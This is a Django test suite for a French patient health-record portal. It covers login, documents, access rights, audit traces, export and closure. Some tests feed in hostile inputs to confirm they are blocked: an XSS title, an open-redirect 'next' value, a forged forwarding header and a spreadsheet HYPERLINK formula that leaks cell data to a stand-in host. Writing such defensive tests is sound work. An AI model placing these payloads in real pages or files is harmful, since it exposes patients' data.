"""Patient portal views: login flow, documents, access rights, traces, expression, export, closure.

Every refusal is checked for its answer AND for the absence of any change.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from lxml import etree

from dmp.access.actors import AccessMode
from dmp.access.policy import DocumentStatus, RecordStatus
from dmp.accounts.models import OutboxMessage, WebAccount
from dmp.accounts.services import MAX_FAILURES, account_activate, exceptional_access_notify
from dmp.accounts.tests.helpers import IDENTIFIER, PASSWORD, active_account, handed_over_code, last_code
from dmp.audit.actions import AuditAction
from dmp.audit.models import AuditEvent
from dmp.cda.builder import simple_pdf
from dmp.common import clock
from dmp.common.errors import NotFound
from dmp.common.xml import parse_xml
from dmp.documents.builders import DocumentDraft, author_for, submission_for
from dmp.documents.metadata import SubmissionSignature
from dmp.documents.models import DocumentEntry
from dmp.documents.selectors import DocumentQuery, document_retrieve, document_search
from dmp.documents.services import submission_register
from dmp.records.models import Authorisation, ExpressionSpace, Record, TrustedPerson

URL = "patient_portal:"


def url(name: str, *args: object) -> str:
    return reverse(URL + name, args=args)


def author_of(caller):
    return author_for(
        person_id=caller.actor.person_id,
        family_name="Lefèvre",
        given_name="Bernard",
        structure_id=caller.actor.structure_id,
        structure_name=caller.actor.structure_name,
    )


def publish_for(
    personas,
    patient,
    *,
    confidentiality=("N",),
    title="Compte rendu de consultation",
    pdf: bytes | None = None,
):
    caller = personas.ps(personas.dr_bernard)
    submission = submission_for(
        ins=patient.identifier,
        author=author_of(caller),
        drafts=[DocumentDraft(title=title, confidentiality=confidentiality, pdf=pdf)],
    )
    return submission_register(caller=caller, submission=submission).documents[0]


def login(client: Client, identifier: str = IDENTIFIER, password: str = PASSWORD) -> None:
    response = client.post(url("login"), {"identifier": identifier, "password": password})
    assert response.status_code == 302, response.content
    response = client.post(url("login_code"), {"code": last_code()})
    assert response.status_code == 302
    assert response["Location"] == url("home")


@pytest.fixture
def alice_client(personas) -> Client:
    active_account(personas)
    client = Client()
    login(client)
    return client


# --- authentication -------------------------------------------------------------------------


def test_activation_then_login_then_home(personas, client):
    code = handed_over_code(personas)
    response = client.post(
        url("activation"),
        {"code": code, "identifier": IDENTIFIER, "password": PASSWORD, "password_again": PASSWORD},
    )
    assert response.status_code == 302
    login(client)
    response = client.get(url("home"))
    assert response.status_code == 200
    assert "MARTIN" in response.content.decode()


def test_activation_with_a_weak_password_shows_the_rule_and_changes_nothing(personas, client):
    code = handed_over_code(personas)
    response = client.post(
        url("activation"),
        {"code": code, "identifier": IDENTIFIER, "password": "motdepasse", "password_again": "motdepasse"},
    )
    assert response.status_code == 200
    assert "12 caractères" in response.content.decode()
    assert WebAccount.objects.get().status == WebAccount.Status.PENDING


def test_pages_require_login(personas, client):
    for name in ("home", "documents", "access", "traces", "expression", "export_zip", "close"):
        response = client.get(url(name))
        assert response.status_code == 302
        assert response["Location"].startswith(url("login"))


def test_login_rotates_the_session_key(personas, client):
    active_account(personas)
    client.get(url("login"))
    client.post(url("login"), {"identifier": IDENTIFIER, "password": PASSWORD})
    before = client.session.session_key
    client.post(url("login_code"), {"code": last_code()})
    assert client.session.session_key != before
    assert client.get(url("home")).status_code == 200


def test_unknown_identifier_and_wrong_password_get_the_same_page(personas, client):
    active_account(personas)
    unknown = client.post(url("login"), {"identifier": "nobody.here", "password": PASSWORD})
    wrong = client.post(url("login"), {"identifier": IDENTIFIER, "password": "Wrong#Password-12"})
    assert unknown.status_code == wrong.status_code == 200
    strip = lambda r: r.content.decode().replace("nobody.here", "").replace(IDENTIFIER, "")  # noqa: E731
    import re

    def normal(response):
        return re.sub(r'name="csrfmiddlewaretoken" value="[^"]+"', "", strip(response))

    assert normal(unknown) == normal(wrong)
    assert not OutboxMessage.objects.exists()


def test_otp_brute_force_locks_the_account_and_reuse_is_refused(personas, client):
    active_account(personas)
    client.post(url("login"), {"identifier": IDENTIFIER, "password": PASSWORD})
    right = last_code()
    wrong = f"{(int(right) + 1) % 10**6:06d}"
    for _ in range(MAX_FAILURES):
        response = client.post(url("login_code"), {"code": wrong})
        assert response.status_code == 200
    response = client.post(url("login_code"), {"code": right})
    assert response.status_code == 200  # still refused: locked
    assert client.get(url("home")).status_code == 302
    assert WebAccount.objects.get().locked_until is not None
    assert WebAccount.objects.get().last_login_at is None


def test_a_used_code_cannot_log_in_a_second_browser(personas, client):
    active_account(personas)
    client.post(url("login"), {"identifier": IDENTIFIER, "password": PASSWORD})
    code = last_code()
    session_cookie = client.cookies["sessionid"].value
    assert client.post(url("login_code"), {"code": code}).status_code == 302
    thief = Client()
    thief.cookies["sessionid"] = session_cookie  # the pre-login session id was rotated away
    assert thief.get(url("home")).status_code == 302


def test_wrong_password_lockout_through_the_form(personas, client):
    active_account(personas)
    for _ in range(MAX_FAILURES):
        client.post(url("login"), {"identifier": IDENTIFIER, "password": "Wrong#Password-12"})
    response = client.post(url("login"), {"identifier": IDENTIFIER, "password": PASSWORD})
    assert response.status_code == 200
    assert not OutboxMessage.objects.exists()


def test_csrf_is_enforced_on_login_and_on_changes(personas):
    active_account(personas)
    client = Client(enforce_csrf_checks=True)
    response = client.post(url("login"), {"identifier": IDENTIFIER, "password": PASSWORD})
    assert response.status_code == 403
    assert not OutboxMessage.objects.exists()
    # Logged in (with the token), a change without the token is refused and changes nothing.
    page = client.get(url("login"))
    token = page.cookies["csrftoken"].value
    client.post(url("login"), {"identifier": IDENTIFIER, "password": PASSWORD, "csrfmiddlewaretoken": token})
    client.post(url("login_code"), {"code": last_code(), "csrfmiddlewaretoken": token})
    assert client.get(url("home")).status_code == 200
    record = personas.alice.record
    response = client.post(url("access_oppositions"), {"break_glass": "on", "centre_15": "on"})
    assert response.status_code == 403
    record.refresh_from_db()
    assert not record.opposes_break_glass
    assert not record.opposes_centre_15


def test_logout_ends_the_session(alice_client):
    assert alice_client.post(url("logout")).status_code == 302
    assert alice_client.get(url("home")).status_code == 302


def test_a_reissued_activation_ends_existing_sessions(personas, alice_client):
    code = handed_over_code(personas)
    # The account is the patient's until the new code is activated.
    assert alice_client.get(url("home")).status_code == 200
    account_activate(code=code, identifier="alice.encore", password=PASSWORD)
    assert alice_client.get(url("home")).status_code == 302


# --- documents ------------------------------------------------------------------------------


def test_documents_list_shows_what_the_patient_may_see_but_never_invisible_ones(personas, alice_client):
    visible = publish_for(personas, personas.alice, title="Bilan sanguin")
    hidden = publish_for(
        personas, personas.alice, title="Résultat à annoncer", confidentiality=("N", "INVISIBLE_PATIENT")
    )
    page = alice_client.get(url("documents")).content.decode()
    assert "Bilan sanguin" in page
    assert "Résultat à annoncer" not in page
    assert alice_client.get(url("document", visible.unique_id)).status_code == 200
    assert alice_client.get(url("document", hidden.unique_id)).status_code == 404


def test_another_patients_document_is_404_and_nothing_is_revealed(personas, alice_client):
    bobs = publish_for(personas, personas.leo, title="Document de Léo")
    response = alice_client.get(url("document", bobs.unique_id))
    assert response.status_code == 404
    assert "Document de Léo" not in response.content.decode()
    before = DocumentEntry.objects.get(pk=bobs.pk).masked_to_professionals
    response = alice_client.post(
        url("document_mask", bobs.unique_id), {"entry_uuid": bobs.entry_uuid, "masked": "on"}
    )
    assert response.status_code == 404
    assert DocumentEntry.objects.get(pk=bobs.pk).masked_to_professionals == before


def test_a_level_1_document_shows_its_body_in_a_sandboxed_frame(personas, alice_client):
    """The page said the attached PDF was shown below and showed nothing: the patient can now
    read it, in a frame that runs nothing, and only their own."""
    pdf = simple_pdf("Compte rendu", ["Compte rendu numérisé"])
    document = publish_for(personas, personas.alice, title="Compte rendu scanné", pdf=pdf)
    page = alice_client.get(url("document", document.unique_id)).content.decode()
    body_url = url("document_body", document.unique_id)
    assert f'<iframe class="embedded-body" sandbox title="Document joint" src="{body_url}">' in page
    body = alice_client.get(body_url)
    assert body.status_code == 200
    assert body["Content-Type"] == "application/pdf"
    assert body["Content-Security-Policy"].startswith("sandbox")
    assert body.content == pdf
    leos = publish_for(personas, personas.leo, title="PDF de Léo", pdf=pdf)
    assert alice_client.get(url("document_body", leos.unique_id)).status_code == 404
    structured = publish_for(personas, personas.alice)
    assert alice_client.get(url("document_body", structured.unique_id)).status_code == 404


def test_the_document_is_rendered_safely(personas, alice_client):
    document = publish_for(personas, personas.alice, title="<script>alert(1)</script>")
    page = alice_client.get(url("document", document.unique_id)).content.decode()
    assert "<script>alert(1)</script>" not in page
    assert "cda-document" in page


def test_masking_hides_the_document_from_an_authorised_ps_then_unmasking_restores_it(personas, alice_client):
    document = publish_for(personas, personas.alice)
    moreau = personas.ps(personas.dr_moreau)
    record = personas.alice.record
    assert document_search(caller=moreau, record=record, query=DocumentQuery())
    response = alice_client.post(
        url("document_mask", document.unique_id), {"entry_uuid": document.entry_uuid, "masked": "on"}
    )
    assert response.status_code == 302
    assert document_search(caller=moreau, record=record, query=DocumentQuery()) == []
    with pytest.raises(NotFound):
        document_retrieve(caller=moreau, unique_id=document.unique_id)
    # The médecin traitant still sees it.
    assert document_search(caller=personas.ps(personas.dr_bernard), record=record, query=DocumentQuery())
    current = DocumentEntry.objects.get(pk=document.pk)
    alice_client.post(url("document_mask", document.unique_id), {"entry_uuid": current.entry_uuid})
    assert document_search(caller=moreau, record=record, query=DocumentQuery())


def test_a_stale_mask_form_is_refused_without_change(personas, alice_client):
    document = publish_for(personas, personas.alice)
    stale = document.entry_uuid
    alice_client.post(url("document_mask", document.unique_id), {"entry_uuid": stale, "masked": "on"})
    response = alice_client.post(url("document_mask", document.unique_id), {"entry_uuid": stale})
    assert response.status_code in {302, 404}
    assert DocumentEntry.objects.get(pk=document.pk).masked_to_professionals


def test_the_patient_adds_an_own_document_of_class_90(personas, alice_client):
    response = alice_client.post(
        url("document_add"), {"type_code": "EXPPAT_2", "title": "Mes allergies", "text": "Pénicilline"}
    )
    assert response.status_code == 302
    document = DocumentEntry.objects.get(title="Mes allergies")
    assert document.class_code == "90"
    assert "mon document" in alice_client.get(url("documents")).content.decode()
    # The authorised cardiologist sees it.
    found = document_search(
        caller=personas.ps(personas.dr_moreau), record=personas.alice.record, query=DocumentQuery()
    )
    assert [v.document.unique_id for v in found] == [document.unique_id]


# --- access rights --------------------------------------------------------------------------


def test_access_page_lists_authorisations_and_the_medecin_traitant(personas, alice_client):
    page = alice_client.get(url("access")).content.decode()
    assert personas.dr_moreau.display_name in page or personas.dr_moreau.national_id in page
    assert "Médecin traitant DMP" in page
    assert personas.dr_bernard.display_name in page


def test_blocking_a_ps_makes_its_access_fail(personas, alice_client):
    publish_for(personas, personas.alice)
    moreau = personas.ps(personas.dr_moreau)
    record = personas.alice.record
    assert document_search(caller=moreau, record=record, query=DocumentQuery())
    response = alice_client.post(
        url("access_change"),
        {
            "grantee_kind": "PS",
            "grantee_id": personas.dr_moreau.national_id,
            "grantee_name": "",
            "change": "block",
        },
    )
    assert response.status_code == 302
    with pytest.raises(NotFound):
        document_search(caller=moreau, record=record, query=DocumentQuery())
    glass = personas.ps(personas.dr_moreau, mode=AccessMode.BREAK_GLASS, reason="urgence")
    with pytest.raises(NotFound):
        document_search(caller=glass, record=record, query=DocumentQuery())


def test_an_invalid_authorisation_request_changes_nothing(personas, alice_client):
    before = list(Authorisation.objects.values_list("grantee_id", "status").order_by("pk"))
    response = alice_client.post(
        url("access_change"), {"grantee_kind": "PS", "grantee_id": "   ", "change": "grant"}
    )
    assert response.status_code == 400
    assert list(Authorisation.objects.values_list("grantee_id", "status").order_by("pk")) == before


def test_oppositions_are_saved_and_stop_break_glass(personas, alice_client):
    publish_for(personas, personas.alice)
    alice_client.post(url("access_oppositions"), {"break_glass": "on"})
    record = Record.objects.get(pk=personas.alice.record.pk)
    assert record.opposes_break_glass
    assert not record.opposes_centre_15
    glass = personas.ps(personas.dr_petit, mode=AccessMode.BREAK_GLASS, reason="inconscient")
    with pytest.raises(NotFound):
        document_search(caller=glass, record=record, query=DocumentQuery())


# --- traces and notifications ------------------------------------------------------------------


def test_traces_show_who_and_highlight_break_glass(personas, alice_client):
    document = publish_for(personas, personas.alice)
    glass = personas.ps(personas.dr_petit, mode=AccessMode.BREAK_GLASS, reason="patient inconscient")
    document_retrieve(caller=glass, unique_id=document.unique_id)
    page = alice_client.get(url("traces")).content.decode()
    assert 'class="exceptional"' in page
    assert "patient inconscient" in page
    assert personas.dr_petit.display_name in page


def test_traces_pages_follow_a_cursor_and_count_nothing(personas, alice_client):
    """A long history is read page by page from the last event shown: no COUNT(*) of the whole
    history for page numbers, no OFFSET that grows with every page, and each event shown once
    although reading a page adds an event of its own."""
    bernard = personas.ps(personas.dr_bernard)
    for _ in range(60):
        document_search(caller=bernard, record=personas.alice.record, query=DocumentQuery(limit=1))
    with CaptureQueriesContext(connection) as first_queries:
        first = alice_client.get(url("traces")).content.decode()
    statements = " ".join(q["sql"].upper() for q in first_queries.captured_queries)
    assert "COUNT(" not in statements
    assert " OFFSET " not in statements
    link = re.search(r'href="\?avant=([^"]+)"', first)
    assert link is not None
    assert "?page=" not in first
    second = alice_client.get(url("traces") + "?avant=" + link.group(1)).content.decode()
    assert 'href="?"' in second  # back to the most recent
    first_rows, second_rows = first.count("<tr>"), second.count("<tr>")  # the header's row too
    total = AuditEvent.objects.filter(record_id=personas.alice.record.pk).count()
    # The first page's own read came before it was built: every event of that moment is on one
    # page or the other, once.
    assert first_rows - 1 == 50
    assert first_rows - 1 + second_rows - 1 == total - 1
    # A cursor this portal never gave shows the first page.
    assert alice_client.get(url("traces") + "?avant=hier").status_code == 200


def test_break_glass_is_notified_as_soon_as_it_is_committed(personas, django_capture_on_commit_callbacks):
    active_account(personas)
    document = publish_for(personas, personas.alice)
    OutboxMessage.objects.all().delete()
    glass = personas.ps(personas.dr_petit, mode=AccessMode.BREAK_GLASS, reason="patient inconscient")
    with django_capture_on_commit_callbacks(execute=True):
        document_retrieve(caller=glass, unique_id=document.unique_id)
    message = OutboxMessage.objects.get()
    assert "bris de glace" in message.body
    # A normal access notifies nobody.
    with django_capture_on_commit_callbacks(execute=True):
        document_retrieve(caller=personas.ps(personas.dr_bernard), unique_id=document.unique_id)
    assert OutboxMessage.objects.count() == 1


def test_break_glass_is_notified_once_through_the_gateway(personas):
    active_account(personas)
    document = publish_for(personas, personas.alice)
    glass = personas.ps(personas.dr_petit, mode=AccessMode.BREAK_GLASS, reason="patient inconscient")
    document_retrieve(caller=glass, unique_id=document.unique_id)
    OutboxMessage.objects.all().delete()
    assert exceptional_access_notify() == 1
    message = OutboxMessage.objects.get()
    assert message.destination == "alice@example.org"
    assert "bris de glace" in message.body
    assert exceptional_access_notify() == 0


# --- expression space ---------------------------------------------------------------------------


def test_expression_space_and_trusted_persons(personas, alice_client):
    response = alice_client.post(
        url("expression"),
        {
            "organ_donation": "CONSENT",
            "has_advance_directives": "on",
            "advance_directives_location": "Chez mon notaire",
            "heirs_access": "REFUSE",
            "personal_note": "",
            "organ_donation_note": "",
        },
    )
    assert response.status_code == 302
    space = ExpressionSpace.objects.get(record=personas.alice.record)
    assert space.organ_donation == "CONSENT"
    assert space.has_advance_directives
    response = alice_client.post(
        url("trusted_person_add"), {"role": "CONFIANCE", "family_name": "Martin", "given_name": "Paul"}
    )
    assert response.status_code == 302
    person = TrustedPerson.objects.get()
    assert alice_client.post(url("trusted_person_remove", person.pk)).status_code == 302
    assert not TrustedPerson.objects.exists()


def test_an_invalid_expression_choice_changes_nothing(personas, alice_client):
    response = alice_client.post(url("expression"), {"organ_donation": "PEUT-ETRE", "heirs_access": "REFUSE"})
    assert response.status_code == 400
    assert ExpressionSpace.objects.get(record=personas.alice.record).organ_donation == "NON_RENSEIGNE"


# --- restitution and closure -----------------------------------------------------------------------


def test_export_is_an_ihe_xdm_zip_with_documents_metadata_and_traces(personas, alice_client):
    first = publish_for(personas, personas.alice, title="Premier")
    publish_for(personas, personas.alice, title="Invisible", confidentiality=("N", "INVISIBLE_PATIENT"))
    response = alice_client.get(url("export_zip"))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(response.getvalue()))
    names = set(archive.namelist())
    assert {"README.TXT", "INDEX.HTM", "IHE_XDM/SUBSET01/METADATA.XML", "TRACES.CSV"} <= names
    documents = sorted(n for n in names if n.startswith("IHE_XDM/SUBSET01/DOC"))
    assert len(documents) == 1
    assert (
        archive.read(documents[0])
        == document_retrieve(caller=personas.patient(personas.alice), unique_id=first.unique_id).content
    )
    metadata = parse_xml(archive.read("IHE_XDM/SUBSET01/METADATA.XML"))
    assert first.unique_id in etree.tostring(metadata).decode()
    assert "Invisible" not in etree.tostring(metadata).decode()
    rim = "{urn:oasis:names:tc:ebxml-regrep:xsd:rim:3.0}"
    assert len(metadata.findall(f".//{rim}ExtrinsicObject")) == 1
    assert len(metadata.findall(f".//{rim}RegistryPackage")) == 1
    members = metadata.findall(f".//{rim}Association")
    entries = metadata.findall(f".//{rim}ExtrinsicObject")
    assert [m.get("targetObject") for m in members] == [entries[0].get("id")]
    rows = list(csv.reader(io.StringIO(archive.read("TRACES.CSV").decode("utf-8-sig")), delimiter=";"))
    assert rows[0][0] == "date"
    assert len(rows) > 1
    assert AuditEvent.objects.filter(action=AuditAction.RECORD_EXPORT, actor_id=personas.alice.ins).exists()


def test_summary_pdf(personas, alice_client):
    publish_for(personas, personas.alice)
    response = alice_client.get(url("summary_pdf"))
    assert response.status_code == 200
    assert response.content.startswith(b"%PDF")


def test_closure_needs_confirmation_and_password(personas, alice_client):
    record = personas.alice.record
    response = alice_client.post(url("close"), {"password": PASSWORD})
    assert response.status_code == 200
    response = alice_client.post(url("close"), {"confirm": "on", "password": "Wrong#Password-12"})
    assert response.status_code == 200
    record.refresh_from_db()
    assert record.status == RecordStatus.ACTIVE
    response = alice_client.post(url("close"), {"confirm": "on", "password": PASSWORD})
    assert response.status_code == 302
    record.refresh_from_db()
    assert record.status == RecordStatus.CLOSED
    # Still readable and exportable by the patient, closed to professionals.
    assert alice_client.get(url("documents")).status_code == 200
    assert alice_client.get(url("export_zip")).status_code == 200
    with pytest.raises(NotFound):
        document_search(caller=personas.ps(personas.dr_moreau), record=record, query=DocumentQuery())


# --- legal representative and secret connection ------------------------------------------------


def _representative_account(personas) -> None:
    """Léo's mother's account, activated."""
    from dmp.accounts.services import account_activate, account_initialise

    code = account_initialise(
        caller=personas.ps(personas.dr_bernard),
        record=personas.leo.record,
        representative=personas.alice_as_mother,
        otp_destination="maman@example.org",
    )
    account_activate(code=code, identifier="maman.de.leo", password=PASSWORD)


def _representative_client(personas) -> Client:
    _representative_account(personas)
    client = Client()
    client.post(url("login"), {"identifier": "maman.de.leo", "password": PASSWORD})
    client.post(url("login_code"), {"code": last_code("maman@example.org")})
    return client


def test_a_legal_representative_sees_the_minors_record_but_not_what_is_hidden_from_them(personas):
    shown = publish_for(personas, personas.leo, title="Vaccins")
    hidden = publish_for(
        personas,
        personas.leo,
        title="Consultation confidentielle",
        confidentiality=("N", "INVISIBLE_REPRESENTANTS_LEGAUX"),
    )
    client = _representative_client(personas)
    page = client.get(url("documents")).content.decode()
    assert "Vaccins" in page
    assert "Consultation confidentielle" not in page
    assert client.get(url("document", shown.unique_id)).status_code == 200
    assert client.get(url("document", hidden.unique_id)).status_code == 404
    assert "représentant légal" in client.get(url("home")).content.decode()


def test_a_minor_in_secret_connection_adds_documents_hidden_from_representatives(personas):
    from dmp.accounts.services import account_activate, account_initialise

    code = account_initialise(
        caller=personas.ps(personas.dr_bernard), record=personas.leo.record, otp_destination="leo@example.org"
    )
    account_activate(code=code, identifier="leo.martin", password=PASSWORD)
    minor = Client()
    minor.post(url("login"), {"identifier": "leo.martin", "password": PASSWORD, "secret_connection": "on"})
    minor.post(url("login_code"), {"code": last_code("leo@example.org")})
    assert "Connexion secrète" in minor.get(url("home")).content.decode()
    minor.post(url("document_add"), {"type_code": "EXPPAT_2", "title": "Mon secret", "text": "..."})
    document = DocumentEntry.objects.get(title="Mon secret")
    assert document.invisible_to_legal_representatives
    parent = _representative_client(personas)
    assert "Mon secret" not in parent.get(url("documents")).content.decode()
    assert parent.get(url("document", document.unique_id)).status_code == 404


def test_pages_are_translated_to_english(personas, client):
    response = client.get(url("login"), HTTP_ACCEPT_LANGUAGE="en")
    page = response.content.decode()
    assert 'lang="en"' in page
    assert "Access my DMP" in page
    assert "Username" in page


def test_a_representative_loses_access_when_the_minor_comes_of_age(personas, settings):
    client = _representative_client(personas)
    assert client.get(url("home")).status_code == 200
    settings.OPENDMP_MAJORITY_AGE = 5  # Léo (9) is now of age
    assert client.get(url("home")).status_code == 404
    assert client.get(url("documents")).status_code == 404


def test_the_document_pdf_download(personas, alice_client):
    document = publish_for(personas, personas.alice)
    response = alice_client.get(url("document_pdf", document.unique_id))
    assert response.status_code == 200
    assert response.content.startswith(b"%PDF")


def test_totp_enrolment_through_the_security_page(personas, alice_client):
    from django.utils import timezone

    from dmp.accounts import totp

    alice_client.get(url("security"))
    secret = alice_client.session["patient_totp_pending"]
    wrong = alice_client.post(
        url("security"),
        {"code": "000000" if totp.totp(secret, timezone.now().timestamp()) != "000000" else "111111"},
    )
    assert wrong.status_code == 200
    assert not WebAccount.objects.get().totp_enabled
    # A session alone does not change the second factor: the password is asked again.
    code = totp.totp(secret, timezone.now().timestamp())
    for password in ("", "wrong password"):
        refused = alice_client.post(url("security"), {"code": code, "password": password})
        assert refused.status_code == 200
        assert not WebAccount.objects.get().totp_enabled
    assert "Mot de passe incorrect." in refused.content.decode()
    response = alice_client.post(url("security"), {"code": code, "password": PASSWORD})
    assert response.status_code == 302
    assert WebAccount.objects.get().totp_enabled
    for password in ("", "wrong password"):
        kept = alice_client.post(url("security"), {"action": "disable", "password": password})
        assert kept.status_code == 200
        assert WebAccount.objects.get().totp_enabled
    alice_client.post(url("security"), {"action": "disable", "password": PASSWORD})
    assert not WebAccount.objects.get().totp_enabled


def test_notifications_can_be_turned_off(personas, alice_client):
    alice_client.post(url("security"), {"action": "notifications"})
    assert not WebAccount.objects.get().notify_exceptional_access
    document = publish_for(personas, personas.alice)
    glass = personas.ps(personas.dr_petit, mode=AccessMode.BREAK_GLASS, reason="urgence")
    document_retrieve(caller=glass, unique_id=document.unique_id)
    assert exceptional_access_notify() == 0
    alice_client.post(url("security"), {"action": "notifications", "notify": "on"})
    # Notices resume for accesses made from now on (the history shows the earlier ones).
    assert exceptional_access_notify() == 0
    document_retrieve(caller=glass, unique_id=document.unique_id)
    assert exceptional_access_notify() == 1


def test_password_rules_are_explained_in_english_too(personas, client):
    code = handed_over_code(personas)
    response = client.post(
        url("activation"),
        {"code": code, "identifier": IDENTIFIER, "password": "short", "password_again": "short"},
        HTTP_ACCEPT_LANGUAGE="en",
    )
    assert "The password must have at least 12 characters." in response.content.decode()


def test_the_next_parameter_cannot_redirect_elsewhere(personas, client):
    active_account(personas)
    client.post(url("login") + "?next=//evil.example/", {"identifier": IDENTIFIER, "password": PASSWORD})
    response = client.post(url("login_code"), {"code": last_code()})
    assert response["Location"] == url("home")
    client.post(url("logout"))
    client.post(url("login") + "?next=" + url("traces"), {"identifier": IDENTIFIER, "password": PASSWORD})
    response = client.post(url("login_code"), {"code": last_code()})
    assert response["Location"] == url("traces")


def test_pages_carry_the_strict_content_security_policy(alice_client):
    response = alice_client.get(url("home"))
    assert "script-src 'self'" in response["Content-Security-Policy"]
    assert response["X-Frame-Options"] == "DENY"


def test_an_address_over_its_failure_budget_gets_429_for_everyone(personas, client):
    from dmp.accounts.services import ADDRESS_BUDGET

    active_account(personas)
    for _ in range(ADDRESS_BUDGET):
        client.post(url("login"), {"identifier": "nobody.here", "password": "x"})
    response = client.post(url("login"), {"identifier": IDENTIFIER, "password": PASSWORD})
    assert response.status_code == 429
    assert not OutboxMessage.objects.exists()


def test_behind_the_proxy_the_failure_budget_is_each_senders_own(personas):
    from dmp.accounts.services import ADDRESS_BUDGET

    active_account(personas)
    prober = Client(REMOTE_ADDR="127.0.0.1", HTTP_X_FORWARDED_FOR="198.51.100.7")
    for _ in range(ADDRESS_BUDGET):
        prober.post(url("login"), {"identifier": "nobody.here", "password": "x"})
    assert prober.post(url("login"), {"identifier": "nobody.here", "password": "x"}).status_code == 429
    alice = Client(REMOTE_ADDR="127.0.0.1", HTTP_X_FORWARDED_FOR="192.0.2.10")
    response = alice.post(url("login"), {"identifier": IDENTIFIER, "password": PASSWORD})
    assert response.status_code == 302
    assert OutboxMessage.objects.count() == 1
    # The prober's own X-Forwarded-For, not written by the proxy, is not believed.
    forger = Client(REMOTE_ADDR="198.51.100.8", HTTP_X_FORWARDED_FOR="192.0.2.10")
    for _ in range(ADDRESS_BUDGET):
        forger.post(url("login"), {"identifier": "nobody.here", "password": "x"})
    assert forger.post(url("login"), {"identifier": IDENTIFIER, "password": PASSWORD}).status_code == 429
    assert alice.post(url("login"), {"identifier": "nobody.here", "password": "x"}).status_code != 429


def test_the_demo_outbox_shows_the_codes_only_in_demo_mode(personas, client, settings):
    active_account(personas)
    client.post(url("login"), {"identifier": IDENTIFIER, "password": PASSWORD})
    settings.DEMO = False
    assert client.get(url("demo_outbox")).status_code == 404
    assert "demo/messages" not in client.get(url("login_code")).content.decode()
    settings.DEMO = True
    assert "demo/messages" in client.get(url("login_code")).content.decode()
    page = client.get(url("demo_outbox"))
    assert page.status_code == 200
    assert page["Cache-Control"] == "no-store"
    assert last_code() in page.content.decode()
    settings.OPENDMP_MESSAGE_GATEWAY = "smtp"
    assert client.get(url("demo_outbox")).status_code == 404


def test_a_former_legal_representative_is_no_longer_told_of_emergency_accesses(personas):
    """Léo's mother is notified of a break-glass access while he is a minor; once he is of age,
    she acts for him no more and is told nothing."""
    _representative_account(personas)
    document = publish_for(personas, personas.leo)
    glass = personas.ps(personas.dr_petit, mode=AccessMode.BREAK_GLASS, reason="patient inconscient")
    document_retrieve(caller=glass, unique_id=document.unique_id)
    OutboxMessage.objects.all().delete()
    assert exceptional_access_notify() == 1
    assert OutboxMessage.objects.get().destination == "maman@example.org"
    leo = personas.leo
    leo.birth_date = leo.birth_date.replace(year=leo.birth_date.year - 30)
    leo.save(update_fields=["birth_date"])
    document_retrieve(caller=glass, unique_id=document.unique_id)
    assert exceptional_access_notify() == 0
    assert OutboxMessage.objects.count() == 1


def test_the_history_does_not_tell_of_documents_hidden_from_the_patient(personas, alice_client):
    """A document invisible to the patient until the announcement consultation: its publication
    and readings were listed in the patient's history and export (author, date, uniqueId)."""
    from dmp.documents.selectors import record_traces_shown

    shown = publish_for(personas, personas.alice, title="Vaccins")
    hidden = publish_for(
        personas, personas.alice, title="Annonce", confidentiality=("N", "INVISIBLE_PATIENT")
    )
    document_retrieve(caller=personas.ps(personas.dr_bernard), unique_id=hidden.unique_id)
    patient = personas.patient(personas.alice)
    listed = {e.document_unique_id for e in record_traces_shown(caller=patient, record=personas.alice.record)}
    assert shown.unique_id in listed
    assert hidden.unique_id not in listed
    assert alice_client.get(url("traces")).status_code == 200
    # Once shown to the patient, its history is the patient's too.
    from dmp.documents.metadata import ConfidentialityChange
    from dmp.documents.services import document_change_confidentiality

    document_change_confidentiality(
        caller=personas.ps(personas.dr_bernard),
        entry_uuid=DocumentEntry.objects.get(unique_id=hidden.unique_id).entry_uuid,
        change=ConfidentialityChange(code="INVISIBLE_PATIENT", enabled=False),
    )
    listed = {e.document_unique_id for e in record_traces_shown(caller=patient, record=personas.alice.record)}
    assert hidden.unique_id in listed


def test_a_note_with_a_character_xml_cannot_hold_is_a_form_error(personas, alice_client):
    before = DocumentEntry.objects.count()
    for title, text in (("Note\x01", "texte"), ("Note", "a\x02b")):
        answer = alice_client.post(
            url("document_add"), {"type_code": "EXPPAT_2", "title": title, "text": text}
        )
        assert answer.status_code in {200, 400}  # was a server error
        assert "caractère non autorisé" in answer.content.decode()
    assert DocumentEntry.objects.count() == before


def test_a_note_written_by_a_legal_representative_is_signed_with_their_name(personas):
    parent = _representative_client(personas)
    answer = parent.post(url("document_add"), {"type_code": "EXPPAT_3", "title": "Directives", "text": "x"})
    assert answer.status_code == 302
    author = DocumentEntry.objects.get(title="Directives").author_rows.get()
    mother = personas.alice_as_mother
    assert author.person_name == f"{mother.family_name.upper()} {mother.given_name}"


def test_the_traces_file_holds_no_spreadsheet_formula(personas, alice_client):
    import csv
    import io
    import zipfile

    document = publish_for(personas, personas.alice)
    reason = '=HYPERLINK("http://x.example/?"&A1,"clic")'
    glass = personas.ps(personas.dr_petit, mode=AccessMode.BREAK_GLASS, reason=reason)
    document_retrieve(caller=glass, unique_id=document.unique_id)
    archive = zipfile.ZipFile(io.BytesIO(alice_client.get(url("export_zip")).getvalue()))
    rows = list(csv.reader(io.StringIO(archive.read("TRACES.CSV").decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert f"'{reason}" in cells
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@"}]


def test_an_exceptional_access_to_a_document_hidden_from_them_is_not_notified(personas, alice_client):
    """The notice was built from the raw trail: a break-glass read of a document awaiting its
    announcement told the patient (and one invisible to the parents told the mother) what the
    history, rightly, did not."""
    _representative_account(personas)
    glass = personas.ps(personas.dr_petit, mode=AccessMode.BREAK_GLASS, reason="urgence")
    awaiting = publish_for(
        personas, personas.alice, title="Annonce", confidentiality=("N", "INVISIBLE_PATIENT")
    )
    secret = publish_for(
        personas, personas.leo, title="Contraception", confidentiality=("N", "INVISIBLE_REPRESENTANTS_LEGAUX")
    )
    for document in (awaiting, secret):
        document_retrieve(caller=glass, unique_id=document.unique_id)
    OutboxMessage.objects.all().delete()
    exceptional_access_notify()
    assert not OutboxMessage.objects.filter(
        destination__in=["alice@example.org", "maman@example.org"]
    ).exists()
    # A visible document's exceptional access is still notified.
